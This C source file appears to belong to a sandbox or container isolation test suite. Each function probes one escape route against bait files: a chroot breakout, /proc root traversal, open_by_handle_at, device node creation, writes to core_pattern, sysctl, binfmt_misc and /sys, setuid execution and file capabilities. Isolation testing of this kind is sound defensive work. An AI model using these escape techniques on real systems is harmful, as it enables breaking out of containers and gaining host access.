/*-
 * SPDX-License-Identifier: BSD-2-Clause
 *
 * Attacks on files: those of the host, devices, /proc and /sys.
 */

#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#include <linux/capability.h>
#include <linux/fs.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "ns_attack.h"

#define	COUNT(a)	(sizeof(a) / sizeof((a)[0]))

static int
opens(const char *path, int flags)
{
	int fd;

	if ((fd = open(path, flags | O_NONBLOCK | O_CLOEXEC)) == -1)
		return (errno);
	close(fd);
	return (0);
}

static int
any_opens(const char *const *path, size_t n, int flags)
{
	int error = ENOENT;

	for (size_t i = 0; i < n && error != 0; i++)
		error = opens(path[i], flags);
	return (error);
}

int
a_chroot(void)
{
	int fd;

	(void)mkdir("/tmp/.jail", 0700);
	if ((fd = open("/", O_RDONLY | O_DIRECTORY)) == -1 ||
	    chroot("/tmp/.jail") != 0 || fchdir(fd) != 0)
		return (errno);
	for (int i = 0; i < 100; i++)
		(void)!chdir("..");
	if (chroot(".") != 0)
		return (errno);
	return (opens(bait("BAIT_FILE"), O_RDONLY));
}

int
a_dotdot(void)
{
	char path[5000];

	snprintf(path, sizeof(path), "/../../../../../../../../%s",
	    bait("BAIT_FILE"));
	return (opens(path, O_RDONLY));
}

/* By any process that may have another root, or be elsewhere. */
int
a_proc_root(void)
{
	char path[5000];
	struct dirent *de;
	int error = ENOENT;
	DIR *d;

	if ((d = opendir("/proc")) == NULL)
		return (errno);
	while (error != 0 && (de = readdir(d)) != NULL) {
		snprintf(path, sizeof(path), "/proc/%s/root/%s", de->d_name,
		    bait("BAIT_FILE"));
		if ((error = opens(path, O_RDONLY)) == 0)
			break;
		snprintf(path, sizeof(path), "/proc/%s/cwd/../../../../../%s",
		    de->d_name, bait("BAIT_FILE"));
		error = opens(path, O_RDONLY);
	}
	closedir(d);
	return (error);
}

/* A file's handle leads to it from any mount of its file system. */
int
a_handle(void)
{
	union {
		struct file_handle h;
		char		 room[sizeof(struct file_handle) +
				    MAX_HANDLE_SZ];
	} u;
	const char *hex = bait("BAIT_HANDLE");
	unsigned b;
	int dir;

	memset(&u, 0, sizeof(u));
	u.h.handle_type = (int)strtol(hex, NULL, 10);
	hex = strchr(hex, ':') + 1;
	while (sscanf(hex, "%2x", &b) == 1) {
		u.h.f_handle[u.h.handle_bytes++] = (unsigned char)b;
		hex += 2;
	}
	if ((dir = open(bait("SHARE"), O_RDONLY | O_DIRECTORY)) == -1)
		return (errno);
	return (outcome(open_by_handle_at(dir, &u.h, O_RDONLY)));
}

static int
node(mode_t type, dev_t dev)
{
	static const char path[] = "/tmp/.node";
	int error;

	(void)unlink(path);
	if (mknod(path, type | 0600, dev) != 0)
		return (errno);
	error = opens(path, O_RDONLY);
	(void)unlink(path);
	return (error);
}

/* Not the host's own disk: a proof need not touch that. */
int
a_mknod_disk(void)
{

	return (node(S_IFBLK, makedev(7, 0)));
}

int
a_mknod_mem(void)
{

	return (node(S_IFCHR, makedev(1, 1)));
}

int
a_mknod_kmsg(void)
{

	return (node(S_IFCHR, makedev(1, 11)));
}

int
a_devices(void)
{
	static const char *const nodes[] = { "/dev/fuse", "/dev/kmsg",
	    "/dev/loop-control", "/dev/loop0", "/dev/mem", "/dev/kmem",
	    "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm",
	    "/dev/net/tun", "/dev/vhost-net", "/dev/vhost-vsock",
	    "/dev/mapper/control", "/dev/console", "/dev/uinput",
	    "/dev/snapshot", "/dev/userfaultfd", "/dev/btrfs-control" };

	return (any_opens(nodes, COUNT(nodes), O_RDONLY));
}

/* Masked files open, and are empty. */
static int
reads(const char *path)
{
	char buf[4096];
	ssize_t n;
	int fd;

	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) == -1)
		return (errno);
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return (n > 0 ? 0 : n == 0 ? ENODATA : errno);
}

int
a_kcore(void)
{

	return (reads("/proc/kcore"));
}

int
a_kallsyms(void)
{
	char line[256];
	FILE *fp;

	if ((fp = fopen("/proc/kallsyms", "r")) == NULL)
		return (errno);
	while (fgets(line, sizeof(line), fp) != NULL)
		if (strtoull(line, NULL, 16) != 0)
			return (0);
	return (ENODATA);
}

int
a_sysrq(void)
{
	struct stat st;

	/* /dev/null is mounted over it. */
	if (stat("/proc/sysrq-trigger", &st) != 0)
		return (errno);
	if (S_ISCHR(st.st_mode))
		return (EPERM);
	return (opens("/proc/sysrq-trigger", O_WRONLY));
}

int
a_core_pattern(void)
{

	return (opens("/proc/sys/kernel/core_pattern", O_WRONLY));
}

int
a_sysctl(void)
{
	static const char *const files[] = { "/proc/sys/kernel/modprobe",
	    "/proc/sys/kernel/hotplug", "/proc/sys/vm/overcommit_memory",
	    "/proc/sys/kernel/randomize_va_space",
	    "/proc/sys/fs/suid_dumpable", "/proc/sys/kernel/panic",
	    "/proc/sys/user/max_user_namespaces", "/proc/irq/0/smp_affinity",
	    "/proc/sys/kernel/pid_max", "/proc/sys/kernel/ns_last_pid" };

	return (any_opens(files, COUNT(files), O_WRONLY));
}

int
a_proc_net_write(void)
{
	static const char *const files[] = {
	    "/proc/sys/net/ipv4/ip_forward",
	    "/proc/sys/net/ipv4/conf/all/accept_redirects",
	    "/proc/sys/kernel/shmmax", "/proc/sys/kernel/hostname" };

	return (any_opens(files, COUNT(files), O_WRONLY));
}

int
a_sys_write(void)
{
	static const char *const files[] = { "/sys/kernel/uevent_helper",
	    "/sys/power/state", "/sys/kernel/mm/ksm/run",
	    "/sys/kernel/profiling", "/sys/block/loop0/uevent",
	    "/sys/class/block/vda/uevent", "/sys/kernel/vmcoreinfo",
	    "/sys/devices/virtual/mem/null/uevent" };

	return (any_opens(files, COUNT(files), O_WRONLY));
}

/* Have the kernel run a program of ours for some kind of files. */
int
a_binfmt(void)
{

	if (opens("/proc/sys/fs/binfmt_misc/register", O_WRONLY) == 0)
		return (0);
	if (mount("x", "/proc/sys/fs/binfmt_misc", "binfmt_misc", 0,
	    NULL) != 0)
		return (errno);
	(void)umount("/proc/sys/fs/binfmt_misc");
	return (0);
}

/* Where overlayfs keeps what we write. */
int
a_upper(void)
{
	char line[4096], *p;
	FILE *fp;

	if (opens(bait("BAIT_DISK"), O_RDONLY) == 0)
		return (0);
	if ((fp = fopen("/proc/self/mountinfo", "r")) == NULL)
		return (errno);
	while (fgets(line, sizeof(line), fp) != NULL)
		if ((p = strstr(line, "upperdir=")) != NULL) {
			p += 9;
			p[strcspn(p, ",\n")] = '\0';
			fclose(fp);
			return (opens(p, O_RDONLY));
		}
	fclose(fp);
	return (ENOENT);
}

int
a_share_up(void)
{
	char path[300];

	if (chdir(bait("SHARE")) != 0)
		return (errno);
	snprintf(path, sizeof(path), "../%s",
	    strrchr(bait("BAIT_FILE"), '/') + 1);
	return (opens(path, O_RDONLY));
}

int
a_share_node(void)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/node", bait("SHARE"));
	return (opens(path, O_RDONLY));
}

static const char *program;

/* Opened before, as users need not get to where it is. */
static int
exec_as_user(void)
{
	char name[] = "ns_attack", arg[] = "euid";
	char *const argv[] = { name, arg, NULL }, *const env[] = { NULL };
	int fd;

	if ((fd = open(program, O_PATH | O_CLOEXEC)) == -1 ||
	    setgid(1000) != 0 || setuid(1000) != 0)
		return (errno);
	(void)execveat(fd, "", argv, env, AT_EMPTY_PATH);
	return (errno);
}

int
a_setuid_file(void)
{

	program = bait("SUID");
	return (in_child(exec_as_user));
}

int
a_share_suid(void)
{
	static char path[4096];

	snprintf(path, sizeof(path), "%s/suid", bait("SHARE"));
	program = path;
	return (in_child(exec_as_user));
}

int
a_setcap(void)
{
	struct vfs_cap_data cap = { .magic_etc = VFS_CAP_REVISION_2 |
	    VFS_CAP_FLAGS_EFFECTIVE,
	    .data = { { .permitted = 1U << CAP_SYS_ADMIN } } };
	int fd;

	if ((fd = open("/tmp/.caps", O_RDWR | O_CREAT, 0755)) == -1)
		return (errno);
	return (outcome(fsetxattr(fd, "security.capability", &cap,
	    sizeof(cap), 0)));
}

int
a_immutable(void)
{
	int fd, flags = FS_IMMUTABLE_FL, error;

	if ((fd = open("/tmp/.fixed", O_RDWR | O_CREAT, 0600)) == -1)
		return (errno);
	error = outcome(ioctl(fd, FS_IOC_SETFLAGS, &flags));
	flags = 0;
	(void)ioctl(fd, FS_IOC_SETFLAGS, &flags);
	close(fd);
	return (error);
}

int
a_chown_outside(void)
{
	int fd;

	if ((fd = open("/tmp/.owned", O_RDWR | O_CREAT, 0600)) == -1)
		return (errno);
	return (outcome(fchown(fd, 70000, 70000)));
}

int
a_fanotify(void)
{

	return (outcome(fanotify_init(FAN_CLASS_CONTENT, O_RDONLY)));
}
